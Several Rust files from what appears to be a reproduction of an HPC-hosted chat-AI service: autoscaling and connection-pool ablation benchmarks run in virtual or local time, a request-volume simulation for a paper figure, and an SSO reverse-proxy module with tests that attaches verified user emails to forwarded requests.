/// (coverage, p99-wait proxy).
fn run_burst(standby: u32) -> (f64, f64) {
    let clock = SimClock::new();
    let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), 6)));
    let routing = Arc::new(RoutingTable::new());
    let demand = Arc::new(DemandTracker::new(60_000));
    let launcher = Arc::new(FastLauncher {
        probes_until_ready: 24, // 2 min cold start at 5 s cadence
        probes: Mutex::new(Default::default()),
        counter: Default::default(),
    });
    let config = ServiceConfig {
        min_instances: 1,
        max_instances: 8,
        target_concurrency: 4.0,
        time_limit: 3_600_000,
        renew_margin: 300_000,
        standby,
        ..ServiceConfig::new("svc", "llama3-70b", 2)
    };
    let scheduler = ServiceScheduler::new(
        vec![config],
        ctld,
        routing.clone(),
        demand.clone(),
        clock.clone(),
        launcher,
        9,
    );

    let mut in_flight = 0u64;
    let mut demand_total = 0f64;
    let mut covered = 0f64;
    let mut uncovered = 0f64;
    for t_min in 0..120u64 {
        let want = burst_demand_at(t_min);
        while in_flight < want {
            demand.begin("svc", clock.now_ms());
            in_flight += 1;
        }
        while in_flight > want {
            demand.end("svc", clock.now_ms());
            in_flight -= 1;
        }
        for _ in 0..12 {
            scheduler.run();
            clock.advance_by(5_000);
        }
        let (_, ready) = routing.counts("svc");
        let capacity = ready as f64 * 4.0;
        demand_total += want as f64;
        covered += (want as f64).min(capacity);
        uncovered += (want as f64 - capacity).max(0.0);
    }
    let p99 = if uncovered / demand_total.max(1.0) > 0.01 {
        60_000.0
    } else {
        0.0
    };
    (covered / demand_total, p99)
}

fn main() {
    println!("Ablation: autoscaling policy (bursty 4h trace, virtual time)\n");
    println!(
        "{:<12} {:>18} {:>12} {:>12} {:>12}",
        "scale-down", "target-conc", "cold-start", "GPU-hours", "coverage"
    );
    let targets: &[f64] = if bench::smoke() {
        &[4.0, 16.0]
    } else {
        &[4.0, 8.0, 16.0]
    };
    let mut rows = Vec::new();
    let mut max_coverage = 0.0f64;
    let mut expire_gpu_hours = 0.0f64;
    let mut cancel_gpu_hours = 0.0f64;
    for policy in [ScaleDownPolicy::Expire, ScaleDownPolicy::Cancel] {
        for &target in targets {
            for cold in [2u32, 24] {
                let (gpu_hours, coverage) = run(policy, target, cold);
                println!(
                    "{:<12} {:>18.0} {:>12} {:>11.1}h {:>11.0}%",
                    format!("{policy:?}"),
                    target,
                    format!("{}s", cold * 5),
                    gpu_hours,
                    coverage * 100.0
                );
                max_coverage = max_coverage.max(coverage);
                if target == 4.0 && cold == 2 {
                    match policy {
                        ScaleDownPolicy::Expire => expire_gpu_hours = gpu_hours,
                        ScaleDownPolicy::Cancel => cancel_gpu_hours = gpu_hours,
                    }
                }
                rows.push(
                    Json::obj()
                        .set("policy", format!("{policy:?}"))
                        .set("target_concurrency", target)
                        .set("cold_start_s", (cold * 5) as u64)
                        .set("gpu_hours", gpu_hours)
                        .set("coverage", coverage),
                );
            }
        }
    }
    println!("\nreading: Cancel frees GPUs faster (fewer GPU-hours) at equal");
    println!("coverage for slow-moving traces; low target-concurrency buys");
    println!("coverage with more GPU-hours; long cold starts hurt coverage");
    println!("during bursts — the paper's §7.1.1 pre-scaling motivation.");

    // ---- preemption-storm drill: gap harvesting on/off -------------------
    println!("\nPreemption-storm drill (5-job batch storm vs 4-instance service)");
    println!(
        "{:<10} {:>9} {:>14} {:>9} {:>8} {:>11} {:>9} {:>9}",
        "harvest", "coverage", "batch-makespan", "requeues", "notices", "requeue-ok", "p99-wait", "gpu-util"
    );
    let mut storm_rows = Vec::new();
    let mut storm = std::collections::HashMap::new();
    for harvest in [true, false] {
        let o = run_storm(harvest);
        println!(
            "{:<10} {:>8.0}% {:>13.1}m {:>9} {:>8} {:>10.0}% {:>8.0}s {:>8.0}%",
            if harvest { "on" } else { "off" },
            o.coverage * 100.0,
            o.batch_makespan_min,
            o.requeues,
            o.preemption_notices,
            o.requeue_success * 100.0,
            o.p99_ttft_ms / 1000.0,
            o.gpu_hour_util * 100.0,
        );
        storm_rows.push(
            Json::obj()
                .set("harvest", harvest)
                .set("coverage", o.coverage)
                .set("batch_makespan_min", o.batch_makespan_min)
                .set("requeues", o.requeues)
                .set("preemption_notices", o.preemption_notices)
                .set("walltime_warnings", o.walltime_warnings)
                .set("requeue_success", o.requeue_success)
                .set("p99_ttft_ms", o.p99_ttft_ms)
                .set("gpu_hour_util", o.gpu_hour_util),
        );
        storm.insert(harvest, o);
    }
    let storm_on = &storm[&true];
    let storm_off = &storm[&false];
    println!("reading: harvesting lets the blocked batch job preempt (grace →");
    println!("requeue) instead of queueing behind a full walltime, so the");
    println!("cluster delivers its batch GPU-hours sooner; the requeued");
    println!("instances must all restart once the storm passes.");

    // ---- warm-standby ablation -------------------------------------------
    let (burst_cov_off, burst_p99_off) = run_burst(0);
    let (burst_cov_on, burst_p99_on) = run_burst(1);
    println!("\nWarm standby (slope-EMA) on the 4→32 ramp, 2 min cold start:");
    println!(
        "  standby=0: coverage {:.0}% p99-wait {:.0}s | standby=1: coverage {:.0}% p99-wait {:.0}s",
        burst_cov_off * 100.0,
        burst_p99_off / 1000.0,
        burst_cov_on * 100.0,
        burst_p99_on / 1000.0,
    );

    bench::emit_json(
        "ablation_autoscale",
        &Json::obj()
            .set("rows", rows)
            .set("storm", storm_rows)
            .set(
                "burst",
                Json::obj()
                    .set("standby_off_coverage", burst_cov_off)
                    .set("standby_off_p99_ms", burst_p99_off)
                    .set("standby_on_coverage", burst_cov_on)
                    .set("standby_on_p99_ms", burst_p99_on),
            )
            .set(
                "summary",
                Json::obj()
                    .set("max_coverage", max_coverage)
                    .set(
                        "cancel_gpu_hours_saved_ratio",
                        expire_gpu_hours / cancel_gpu_hours.max(1e-9),
                    )
                    .set(
                        "harvest_batch_makespan_ratio",
                        storm_off.batch_makespan_min / storm_on.batch_makespan_min.max(1e-9),
                    )
                    .set("storm_preemptions", storm_on.requeues)
                    .set("storm_requeue_success", storm_on.requeue_success)
                    .set("storm_coverage_harvest", storm_on.coverage)
                    .set(
                        "standby_ttft_p99_ratio",
                        (burst_p99_off + 1.0) / (burst_p99_on + 1.0),
                    )
                    .set(
                        "standby_coverage_gain",
                        burst_cov_on / burst_cov_off.max(1e-9),
                    ),
            ),
    );
}
