//! Ablation: autoscaling policy (threshold × scale-down policy × keepalive
//! cadence) against a bursty demand trace in virtual time. Reports GPU-
//! hours consumed and demand-coverage — the §7.1.1 trade-off (fast scale
//! up vs resources held).
//!
//! Runs entirely in virtual time (deterministic), so the smoke-mode JSON
//! artifact (`CHAT_AI_BENCH_JSON`) is stable enough for the CI baseline
//! gate; smoke trims the config matrix, not the trace.

use std::sync::{Arc, Mutex};

use chat_ai::scheduler::{
    DemandTracker, InstanceLauncher, RoutingTable, ScaleDownPolicy, ServiceConfig,
    ServiceScheduler,
};
use chat_ai::slurm::{JobId, Slurmctld};
use chat_ai::util::clock::{Clock, SimClock};
use chat_ai::util::json::Json;
use chat_ai::workload::bench;

struct FastLauncher {
    probes_until_ready: u32,
    probes: Mutex<std::collections::HashMap<JobId, u32>>,
    counter: std::sync::atomic::AtomicU64,
}

impl InstanceLauncher for FastLauncher {
    fn launch(&self, _s: &ServiceConfig, _j: JobId, _n: &str, _p: u16) {}
    fn probe(&self, job: JobId) -> Option<std::net::SocketAddr> {
        let mut m = self.probes.lock().unwrap();
        let n = m.entry(job).or_insert(0);
        *n += 1;
        (*n >= self.probes_until_ready).then(|| {
            let p = self.counter.fetch_add(1, std::sync::atomic::Ordering::Relaxed) as u16;
            std::net::SocketAddr::from(([127, 0, 0, 1], 10000 + p))
        })
    }
    fn stop(&self, _j: JobId) {}
}

/// Bursty demand trace: 30min idle, 1h at 20 concurrent, 30min idle,
/// 30min at 40, long tail idle.
fn demand_at(t_min: u64) -> u64 {
    match t_min {
        0..=29 => 1,
        30..=89 => 20,
        90..=119 => 2,
        120..=149 => 40,
        _ => 1,
    }
}

fn run(policy: ScaleDownPolicy, target_concurrency: f64, cold_start_probes: u32) -> (f64, f64) {
    let clock = SimClock::new();
    let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), 10)));
    let routing = Arc::new(RoutingTable::new());
    let demand = Arc::new(DemandTracker::new(60_000));
    let launcher = Arc::new(FastLauncher {
        probes_until_ready: cold_start_probes,
        probes: Mutex::new(Default::default()),
        counter: Default::default(),
    });
    let config = ServiceConfig {
        max_instances: 8,
        target_concurrency,
        scale_down: policy,
        time_limit: 3_600_000,
        renew_margin: 300_000,
        min_instances: 1,
        ..ServiceConfig::new("svc", "llama3-70b", 2)
    };
    let scheduler = ServiceScheduler::new(
        vec![config],
        ctld.clone(),
        routing.clone(),
        demand.clone(),
        clock.clone(),
        launcher,
        3,
    );

    let mut gpu_ms = 0f64;
    let mut covered = 0f64;
    let mut demand_total = 0f64;
    let mut in_flight = 0u64;
    let total_min = 240u64;
    for t_min in 0..total_min {
        let want = demand_at(t_min);
        // adjust synthetic in-flight load to the trace
        while in_flight < want {
            demand.begin("svc", clock.now_ms());
            in_flight += 1;
        }
        while in_flight > want {
            demand.end("svc", clock.now_ms());
            in_flight -= 1;
        }
        // 12 scheduler runs per minute (5s keepalive)
        for _ in 0..12 {
            scheduler.run();
            clock.advance_by(5_000);
        }
        let (total_gpus, free) = ctld.lock().unwrap().gpu_utilization();
        gpu_ms += ((total_gpus - free) as f64) * 60_000.0;
        let (_, ready) = routing.counts("svc");
        // coverage: capacity (ready × target) vs demand
        let capacity = ready as f64 * target_concurrency;
        demand_total += want as f64;
        covered += (want as f64).min(capacity);
    }
    (gpu_ms / 3_600_000.0, covered / demand_total)
}

fn main() {
    println!("Ablation: autoscaling policy (bursty 4h trace, virtual time)\n");
    println!(
        "{:<12} {:>18} {:>12} {:>12} {:>12}",
        "scale-down", "target-conc", "cold-start", "GPU-hours", "coverage"
    );
    let targets: &[f64] = if bench::smoke() {
        &[4.0, 16.0]
    } else {
        &[4.0, 8.0, 16.0]
    };
    let mut rows = Vec::new();
    let mut max_coverage = 0.0f64;
    let mut expire_gpu_hours = 0.0f64;
    let mut cancel_gpu_hours = 0.0f64;
    for policy in [ScaleDownPolicy::Expire, ScaleDownPolicy::Cancel] {
        for &target in targets {
            for cold in [2u32, 24] {
                let (gpu_hours, coverage) = run(policy, target, cold);
                println!(
                    "{:<12} {:>18.0} {:>12} {:>11.1}h {:>11.0}%",
                    format!("{policy:?}"),
                    target,
                    format!("{}s", cold * 5),
                    gpu_hours,
                    coverage * 100.0
                );
                max_coverage = max_coverage.max(coverage);
                if target == 4.0 && cold == 2 {
                    match policy {
                        ScaleDownPolicy::Expire => expire_gpu_hours = gpu_hours,
                        ScaleDownPolicy::Cancel => cancel_gpu_hours = gpu_hours,
                    }
                }
                rows.push(
                    Json::obj()
                        .set("policy", format!("{policy:?}"))
                        .set("target_concurrency", target)
                        .set("cold_start_s", (cold * 5) as u64)
                        .set("gpu_hours", gpu_hours)
                        .set("coverage", coverage),
                );
            }
        }
    }
    println!("\nreading: Cancel frees GPUs faster (fewer GPU-hours) at equal");
    println!("coverage for slow-moving traces; low target-concurrency buys");
    println!("coverage with more GPU-hours; long cold starts hurt coverage");
    println!("during bursts — the paper's §7.1.1 pre-scaling motivation.");

    bench::emit_json(
        "ablation_autoscale",
        &Json::obj().set("rows", rows).set(
            "summary",
            Json::obj().set("max_coverage", max_coverage).set(
                "cancel_gpu_hours_saved_ratio",
                expire_gpu_hours / cancel_gpu_hours.max(1e-9),
            ),
        ),
    );
}
