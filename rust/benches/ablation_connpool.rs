//! Ablation: process-wide keep-alive connection pools on the interior
//! hops, measured across the real chain (user → gateway → HPC proxy →
//! SSH/ForceCommand → cloud interface → LLM server).
//!
//! Pool ON: every interior HTTP hop checks a keep-alive connection out of
//! the process-wide [`chat_ai::util::http::HttpPool`] and parks it again
//! after a clean exchange, so steady-state traffic dials ~zero interior
//! sockets. Pool OFF reproduces the pre-pool baseline: a fresh TCP
//! connection per interior request at every hop, torn down afterwards.
//! Users are deliberately *un*pooled either way — each request arrives on
//! a fresh client connection, the worst case for interior reuse.
//!
//! Per cell (pool on/off × 1/64/512 users) we measure:
//!  * interior socket dials — process-wide dial counter minus the user
//!    connections themselves; the pool's "strictly fewer sockets" claim.
//!  * per-request latency p50/p95 — reuse must never cost latency.
//!  * pool hit ratio + open-socket gauge (pool-on cells) — steady-state
//!    checkouts must be served from parked connections, within the caps.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::CloudInterface;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, LlmServer};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::http::{
    connections_dialed, http_pool, Client, HttpPoolConfig, Request, Server,
};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::workload::bench;

const KEY: &str = "SHA256:connpool-bench-key";

/// A free-running model that never EOSes: generation ends only via
/// max_tokens, so every request costs the same tiny decode budget and the
/// chain's connection handling dominates.
struct InstantBackend;

impl InstantBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for InstantBackend {
    fn max_batch(&self) -> usize {
        128
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// The full chain with real sockets at every hop.
struct Chain {
    llm: LlmServer,
    _sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    _gateway: Arc<Gateway>,
    gateway_http: Server,
}

impl Chain {
    fn launch() -> Chain {
        let streaming = StreamingConfig::default();
        let llm = LlmServer::start_with("m", Arc::new(InstantBackend), 96, streaming.clone())
            .expect("start llm server");

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci = CloudInterface::with_streaming(
            routing,
            demand,
            clock,
            Arc::new(|| {}),
            7,
            streaming.clone(),
        );

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                workers: 16,
                exec_workers: 96,
                ..Default::default()
            },
        )
        .expect("bind sshd");
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(500),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 96).expect("bind proxy http");

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m")
                .public()
                .with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        let gateway_http = gateway.serve("127.0.0.1:0", 96).expect("bind gateway");

        Chain {
            llm,
            _sshd: sshd,
            proxy,
            _proxy_http: proxy_http,
            _gateway: gateway,
            gateway_http,
        }
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn chat_request() -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", 8u64);
    Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes())
}

fn pool_config(enabled: bool) -> HttpPoolConfig {
    HttpPoolConfig {
        // Generous caps: the cells measure reuse, not checkout blocking.
        max_per_peer: 600,
        max_total: 4096,
        idle_ttl: Duration::from_secs(25),
        checkout_timeout: Duration::from_secs(10),
        enabled,
    }
}

/// Drop every connection parked by a previous cell (their chains are gone,
/// so the sockets are dead): a zero TTL makes the sweep evict everything.
fn flush_pool() {
    let pool = http_pool();
    pool.configure(HttpPoolConfig {
        idle_ttl: Duration::ZERO,
        ..pool_config(true)
    });
    pool.sweep();
}

/// Fire `users` threads × `per_user` sequential requests, each request on
/// a fresh (unpooled) user connection; returns the cell's measurements.
fn run_user_wave(url: &str, users: usize, per_user: usize) -> (usize, Vec<f64>) {
    let mut handles = Vec::new();
    for _ in 0..users {
        let url = url.to_string();
        handles.push(std::thread::spawn(move || {
            let mut latencies = Vec::with_capacity(per_user);
            let mut ok = 0usize;
            for _ in 0..per_user {
                let mut client = Client::new(&url);
                let t0 = Instant::now();
                match client.send(&chat_request()) {
                    Ok(resp) if resp.status == 200 => {
                        ok += 1;
                        latencies.push(t0.elapsed().as_secs_f64() * 1e3);
                    }
                    _ => {}
                }
            }
            (ok, latencies)
        }));
    }
    let mut completed = 0usize;
    let mut latencies = Vec::new();
    for h in handles {
        if let Ok((ok, lat)) = h.join() {
            completed += ok;
            latencies.extend(lat);
        }
    }
    latencies.sort_by(|a, b| a.partial_cmp(b).unwrap());
    (completed, latencies)
}

fn percentile(sorted: &[f64], p: f64) -> f64 {
    if sorted.is_empty() {
        return 0.0;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx.min(sorted.len() - 1)]
}

fn run_cell(pool_on: bool, users: usize, per_user: usize) -> Json {
    flush_pool();
    let pool = http_pool();
    pool.configure(pool_config(pool_on));
    let chain = Chain::launch();
    let url = chain.gateway_http.url();

    // Warm at the same concurrency: the SSH dial, scheduler paths and (pool
    // on) the interior keep-alive connections all come up outside the
    // measured window, so the window sees steady state.
    run_user_wave(&url, users, 1.max(per_user / 4));

    let dials_before = connections_dialed();
    let hits_before = pool.hits();
    let misses_before = pool.misses();
    let t0 = Instant::now();
    let (completed, latencies) = run_user_wave(&url, users, per_user);
    let elapsed = t0.elapsed().as_secs_f64();

    let attempts = (users * per_user) as u64;
    // Every user request dials exactly one fresh client connection; what
    // remains of the process-wide dial counter is interior sockets.
    let interior_dials = (connections_dialed() - dials_before).saturating_sub(attempts);
    let hits = pool.hits() - hits_before;
    let misses = pool.misses() - misses_before;
    let hit_ratio = hits as f64 / ((hits + misses).max(1)) as f64;
    let open_after = pool.open_connections();
    chain.shutdown();

    Json::obj()
        .set("pool", pool_on)
        .set("users", users as u64)
        .set("requests", attempts)
        .set("completed", completed as u64)
        .set("p50_ms", percentile(&latencies, 0.50))
        .set("p95_ms", percentile(&latencies, 0.95))
        .set("interior_dials", interior_dials)
        .set("hit_ratio", hit_ratio)
        .set("open_after", open_after as u64)
        .set("elapsed_s", elapsed)
}

fn find_cell(cells: &[Json], pool_on: bool, users: u64) -> Option<&Json> {
    cells
        .iter()
        .find(|c| c.bool_field("pool") == Some(pool_on) && c.u64_field("users") == Some(users))
}

fn main() {
    let smoke = bench::smoke();
    // (users, requests per user): heavier per-user volume at low fan-in so
    // every cell sees a comparable request count.
    let grid: &[(usize, usize)] = if smoke {
        &[(1, 16), (64, 6), (512, 2)]
    } else {
        &[(1, 64), (64, 12), (512, 4)]
    };

    println!("Ablation: process-wide keep-alive connection pool (pool on/off x users)");
    println!(
        "chain: user -> gateway -> hpc proxy -> ssh -> cloud interface -> llm server; \
         buffered chat completions, fresh user connection per request\n"
    );
    println!(
        "{:>6} {:>6} {:>10} {:>10} {:>10} {:>15} {:>10} {:>10}",
        "pool", "users", "requests", "p50_ms", "p95_ms", "interior_dials", "hit_ratio", "open"
    );

    let mut cells = Vec::new();
    for &pool_on in &[false, true] {
        for &(users, per_user) in grid {
            let row = run_cell(pool_on, users, per_user);
            println!(
                "{:>6} {:>6} {:>10} {:>10.2} {:>10.2} {:>15} {:>10.3} {:>10}",
                if pool_on { "on" } else { "off" },
                users,
                row.u64_field("requests").unwrap_or(0),
                row.f64_field("p50_ms").unwrap_or(0.0),
                row.f64_field("p95_ms").unwrap_or(0.0),
                row.u64_field("interior_dials").unwrap_or(0),
                row.f64_field("hit_ratio").unwrap_or(0.0),
                row.u64_field("open_after").unwrap_or(0),
            );
            cells.push(row);
        }
    }

    // Summary: pool-on must dial strictly fewer interior sockets at equal
    // (or better) p50, and steady-state checkouts must hit the pool.
    let g = |cell: Option<&Json>, key: &str| cell.and_then(|c| c.f64_field(key)).unwrap_or(0.0);
    let gi = |cell: Option<&Json>, key: &str| cell.and_then(|c| c.u64_field(key)).unwrap_or(0);
    let on_64 = find_cell(&cells, true, 64);
    let off_64 = find_cell(&cells, false, 64);
    let on_512 = find_cell(&cells, true, 512);
    let off_512 = find_cell(&cells, false, 512);

    let socket_reduction_64 = (gi(off_64, "interior_dials") + 1) as f64
        / (gi(on_64, "interior_dials") + 1) as f64;
    let socket_reduction_512 = (gi(off_512, "interior_dials") + 1) as f64
        / (gi(on_512, "interior_dials") + 1) as f64;
    let p50_ratio_64 = g(off_64, "p50_ms") / g(on_64, "p50_ms").max(1e-9);
    let hit_ratio_steady = g(on_64, "hit_ratio");

    println!(
        "\ninterior sockets at 64 users: {} (off) -> {} (on), {socket_reduction_64:.1}x fewer; \
         at 512 users: {} -> {}, {socket_reduction_512:.1}x fewer",
        gi(off_64, "interior_dials"),
        gi(on_64, "interior_dials"),
        gi(off_512, "interior_dials"),
        gi(on_512, "interior_dials"),
    );
    println!(
        "p50 at 64 users: {:.2} ms (off) vs {:.2} ms (on) ({p50_ratio_64:.2}x); \
         steady-state pool hit ratio {hit_ratio_steady:.3}",
        g(off_64, "p50_ms"),
        g(on_64, "p50_ms"),
    );

    let summary = Json::obj()
        .set("socket_reduction_64", socket_reduction_64)
        .set("socket_reduction_512", socket_reduction_512)
        .set("p50_ratio_64", p50_ratio_64)
        .set("hit_ratio_steady", hit_ratio_steady)
        .set("interior_dials_on_64", gi(on_64, "interior_dials"))
        .set("interior_dials_off_64", gi(off_64, "interior_dials"))
        .set("open_after_on_512", gi(on_512, "open_after"));
    bench::emit_json(
        "ablation_connpool",
        &Json::obj().set("cells", cells).set("summary", summary),
    );
}
