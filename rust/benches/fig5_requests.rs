//! Figure 5 — total inference requests per day, split internal (own HPC)
//! vs external (OpenAI) models, with the model-addition event timeline.
//! Paper: >350,000 messages by Jul 30; internal share grows as open
//! models and API access land.

use chat_ai::workload::adoption::{simulate, summarize, AdoptionParams, EVENTS};

fn main() {
    let days = simulate(&AdoptionParams::default(), 2024);
    println!("Figure 5: requests per day (seed 2024)\n");
    println!("{:>5} {:>10} {:>10} {:>8}  event", "day", "internal", "external", "api");
    for d in days.iter().step_by(7) {
        let event = EVENTS
            .iter()
            .find(|(ed, _)| *ed >= d.day.saturating_sub(3) && *ed <= d.day + 3)
            .map(|(_, e)| format!("{e:?}"))
            .unwrap_or_default();
        println!(
            "{:>5} {:>10} {:>10} {:>8}  {event}",
            d.day, d.requests_internal, d.requests_external, d.api_requests
        );
    }
    let s = summarize(&days);
    let internal: u64 = days.iter().map(|d| d.requests_internal).sum();
    let total = s.total_messages;
    println!("\ntotal messages: {total}   [paper: >350,000]");
    println!("internal share: {:.0}%   [paper: majority internal by summer]", 100.0 * internal as f64 / total as f64);
}
