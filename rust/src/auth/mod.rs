//! SSO reverse proxy (§5.1): the Apache + mod_auth_openidc layer.
//!
//! Simulates the OIDC flow's *result*: a session store maps cookies to
//! authenticated academic identities; authenticated requests are forwarded
//! to the gateway with the user's email attached as `x-user-email` —
//! exactly the header contract the paper describes. Unauthenticated
//! browser requests get a 302 to the (stub) IdP.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, RwLock};

use crate::util::http::{Handler, Request, Response, Server};
use crate::util::id::hex_token;
use crate::util::rng::Rng;

/// The identity provider + session store.
pub struct SsoProvider {
    /// username → email (the academic-cloud directory).
    directory: RwLock<HashMap<String, String>>,
    /// session token → email.
    sessions: RwLock<HashMap<String, String>>,
    rng: Mutex<Rng>,
    pub logins: AtomicU64,
    pub rejected: AtomicU64,
}

impl SsoProvider {
    pub fn new(seed: u64) -> Arc<SsoProvider> {
        Arc::new(SsoProvider {
            directory: RwLock::new(HashMap::new()),
            sessions: RwLock::new(HashMap::new()),
            rng: Mutex::new(Rng::new(seed)),
            logins: AtomicU64::new(0),
            rejected: AtomicU64::new(0),
        })
    }

    /// Provision an account (the federation's user directory).
    pub fn register_user(&self, username: &str, email: &str) {
        self.directory
            .write()
            .unwrap()
            .insert(username.to_string(), email.to_string());
    }

    /// Complete a login; returns the session cookie value.
    pub fn login(&self, username: &str) -> Option<String> {
        let email = self.directory.read().unwrap().get(username).cloned()?;
        let token = hex_token(&mut self.rng.lock().unwrap(), 16);
        self.sessions
            .write()
            .unwrap()
            .insert(token.clone(), email);
        self.logins.fetch_add(1, Ordering::Relaxed);
        Some(token)
    }

    pub fn resolve(&self, token: &str) -> Option<String> {
        self.sessions.read().unwrap().get(token).cloned()
    }

    pub fn logout(&self, token: &str) {
        self.sessions.write().unwrap().remove(token);
    }
}

/// The reverse proxy in front of the gateway.
pub struct AuthProxy {
    pub sso: Arc<SsoProvider>,
    gateway_addr: String,
    /// Shared secret proving to the gateway that the identity header came
    /// from this proxy.
    proxy_secret: Option<String>,
}

impl AuthProxy {
    pub fn new(sso: Arc<SsoProvider>, gateway_addr: &str) -> Arc<AuthProxy> {
        Arc::new(AuthProxy {
            sso,
            gateway_addr: gateway_addr.to_string(),
            proxy_secret: None,
        })
    }

    pub fn with_secret(sso: Arc<SsoProvider>, gateway_addr: &str, secret: &str) -> Arc<AuthProxy> {
        Arc::new(AuthProxy {
            sso,
            gateway_addr: gateway_addr.to_string(),
            proxy_secret: Some(secret.to_string()),
        })
    }

    pub fn handle(&self, req: &Request) -> Response {
        // The stub IdP endpoint: POST /sso/login {username}
        if req.method == "POST" && req.path == "/sso/login" {
            let Ok(body) = crate::util::json::parse(&req.body_str()) else {
                return Response::error(400, "bad body");
            };
            let Some(user) = body.str_field("username") else {
                return Response::error(400, "missing username");
            };
            return match self.sso.login(user) {
                Some(token) => Response::json(
                    200,
                    &crate::util::json::Json::obj().set("session", token.as_str()),
                )
                .with_header("set-cookie", &format!("session={token}; HttpOnly")),
                None => {
                    self.sso.rejected.fetch_add(1, Ordering::Relaxed);
                    Response::error(401, "unknown user")
                }
            };
        }

        // Everything else requires a session.
        let token = req
            .header("cookie")
            .and_then(|c| {
                c.split(';')
                    .filter_map(|kv| kv.trim().split_once('='))
                    .find(|(k, _)| *k == "session")
                    .map(|(_, v)| v.to_string())
            })
            .or_else(|| req.header("x-session").map(String::from));
        let Some(email) = token.and_then(|t| self.sso.resolve(&t)) else {
            self.sso.rejected.fetch_add(1, Ordering::Relaxed);
            // Browsers get redirected to the IdP.
            return Response::new(302)
                .with_header("location", "/sso/login")
                .with_body(b"redirecting to SSO".to_vec());
        };

        // Forward with the identity header (never trust a client-sent one).
        let mut up = Request::new(&req.method, &req.path).with_body(req.body.clone());
        up.query = req.query.clone();
        for (k, v) in &req.headers {
            if k != "x-user-email" && k != "host" && k != "content-length" && k != "connection" {
                up = up.with_header(k, v);
            }
        }
        up = up.with_header("x-user-email", &email);
        if let Some(secret) = &self.proxy_secret {
            up = up.with_header("x-proxy-secret", secret);
        }
        let sent =
            crate::util::http::pooled(&self.gateway_addr).and_then(|mut client| client.send(&up));
        match sent {
            Ok(resp) => {
                let mut r = Response::new(resp.status).with_body(resp.body);
                if let Some(ct) = resp.headers.get("content-type") {
                    r = r.with_header("content-type", ct);
                }
                r
            }
            Err(e) => Response::error(502, &format!("gateway unreachable: {e}")),
        }
    }

    pub fn serve(self: &Arc<AuthProxy>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let this = self.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        Server::serve(addr, "auth-proxy", workers, handler)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::Client;
    use crate::util::json::Json;

    fn echo_gateway() -> Server {
        Server::serve(
            "127.0.0.1:0",
            "gw-echo",
            2,
            Arc::new(|req: &Request| {
                Response::json(
                    200,
                    &Json::obj().set("email", req.header("x-user-email").unwrap_or("-")),
                )
            }),
        )
        .unwrap()
    }

    fn setup() -> (Arc<SsoProvider>, Server, Server) {
        let gw = echo_gateway();
        let sso = SsoProvider::new(7);
        sso.register_user("adoost", "adoost@uni-goettingen.de");
        let proxy = AuthProxy::new(sso.clone(), &gw.addr().to_string());
        let server = proxy.serve("127.0.0.1:0", 2).unwrap();
        (sso, server, gw)
    }

    #[test]
    fn unauthenticated_redirects_to_sso() {
        let (_sso, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        let resp = client.get("/chat").unwrap();
        assert_eq!(resp.status, 302);
        assert_eq!(resp.headers.get("location").map(String::as_str), Some("/sso/login"));
    }

    #[test]
    fn login_then_access_attaches_email() {
        let (_sso, server, _gw) = setup();
        let mut client = Client::new(&server.url());
        let login = client
            .post_json("/sso/login", &Json::obj().set("username", "adoost"))
            .unwrap();
        assert_eq!(login.status, 200);
